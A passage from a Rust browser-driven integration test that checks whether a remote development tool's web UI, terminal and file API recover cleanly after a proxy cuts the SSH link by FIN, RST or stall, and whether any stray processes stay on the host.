/// terminal and the requests after: what was in flight fails (no hang), the terminal
/// says so and comes back, the next file GET and PUT work on a new connection, each
/// within 30 s plus the keepalive; and nothing of it is left running on the host.
#[test]
fn in_a_browser_every_break_of_the_link_ends_in_flight_work_and_the_page_reconnects() {
    use harness::proxy::{Cut, Link, Proxy};
    let sshd = Sshd::start().unwrap();
    let user = sshd.user().unwrap();
    let big: Vec<u8> = (0..64 * 1024 * 1024u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8)
        .collect();
    fs::write(user.home.join("big.bin"), &big).unwrap();
    let client = Client::new();
    assert!(
        client
            .deploy(&sshd, &user, &["--artifact", &common::server()])
            .status
            .success()
    );
    let proxy = Proxy::start(sshd.port(), Link::FAST).unwrap();
    let known = client.home.path().join(".ssh/known_hosts");
    fs::copy(sshd.known_hosts_for(proxy.port()).unwrap(), &known).unwrap();
    let config = client.home.path().join(".ssh/config");
    fs::write(
        &config,
        format!(
            "Host devbox\n  HostName 127.0.0.1\n  Port {}\n  User {}\n  IdentityFile {}\n  UserKnownHostsFile {}\n  \
             ServerAliveInterval 1\n  ServerAliveCountMax 2\n  ConnectTimeout 5\n",
            proxy.port(),
            user.name,
            user.key.display(),
            known.display()
        ),
    )
    .unwrap();
    let cwd = tempfile::tempdir().unwrap();
    let ui = Ui::start(&client, &config, cwd.path(), &[]);
    let b = Browser::start().unwrap();
    let bound = Duration::from_secs(32);
    b.goto(&ui.url()).unwrap();
    b.press(r#"#hosts li[data-host="devbox"] button.connect"#, bound)
        .unwrap();
    b.press("#act-open-workspace:not([disabled])", bound).unwrap();
    b.wait(r#"#tree li[data-path="big.bin"]"#, bound).unwrap();
    b.press("#new-terminal", Duration::from_secs(15)).unwrap();
    let input = b
        .wait(r#".term[data-state="open"] .xterm-helper-textarea"#, bound)
        .unwrap();
    b.type_into(&input, "echo before-$((1+1))\n").unwrap();
    wait_terminal(&b, 0, "before-2", bound);

    for (round, cut) in [Cut::Fin, Cut::Rst, Cut::Stall].into_iter().enumerate() {
        // A big file being read: the first bytes came, the rest waits for the page.
        b.eval(
            "window.reading = 'starting';
             (async () => {
               const r = await fetch('/h/devbox/api/file?path=big.bin', { headers: { 'x-mlcremote-key': localStorage.getItem('mlcremote.key') } });
               const reader = r.body.getReader();
               await reader.read();
               window.reading = 'paused';
               await new Promise(go => { window.resume = go; });
               try { while (!(await reader.read()).done) {} window.reading = 'whole'; }
               catch (e) { window.reading = 'failed: ' + e; }
             })().catch(e => { window.reading = 'failed early: ' + e; });",
            vec![],
        )
        .unwrap();
        wait_js(&b, "return window.reading === 'paused';", bound);

        proxy.break_all(cut);
        b.eval("window.resume();", vec![]).unwrap();
        // In flight: it ends, and not whole (64 MiB cannot have been buffered).
        wait_js(&b, "return window.reading.startsWith('failed');", bound);
        // The terminal says so and comes back on a new connection.
        b.wait(".term .gone", bound).unwrap();
        b.wait(r#".term[data-state="open"]"#, bound).unwrap();
        let input = b.find(".term .xterm-helper-textarea").unwrap();
        b.type_into(&input, &format!("echo back-$(({round}+40))\n")).unwrap();
        wait_terminal(&b, 0, &format!("back-{}", round + 40), bound);
        // The next GET and PUT work.
        let done = b
            .eval_async(
                "const done = arguments[arguments.length - 1];
                 const key = { 'x-mlcremote-key': localStorage.getItem('mlcremote.key') };
                 fetch('/h/devbox/api/file?path=' + arguments[0], { method: 'PUT', headers: key, body: 'round ' + arguments[1] })
                   .then(r => fetch('/h/devbox/api/file?path=' + arguments[0], { headers: key }).then(async g => done([r.status, g.status, await g.text()])))
                   .catch(e => done(String(e)));",
                vec![json!(format!("after-{round}.txt")), json!(round)],
            )
            .unwrap();
        assert_eq!(done, json!([201, 200, format!("round {round}")]), "{cut:?}");
    }
    drop(b);
    drop(ui);
    drop(proxy);
    // Nothing of the page's is left on the host: only the server runs there.
    let uid = harness::output("id", &["-u", &user.name]).unwrap().trim().to_string();
    let server = common::server_json(&user)["pid"].as_u64().unwrap();
    let deadline = std::time::Instant::now() + bound;
    loop {
        let others = common::processes_of(&uid, server);
        if others.is_empty() {
            break;
        }
        assert!(std::time::Instant::now() < deadline, "left running: {others:?}");
        std::thread::sleep(Duration::from_millis(100));
    }
}
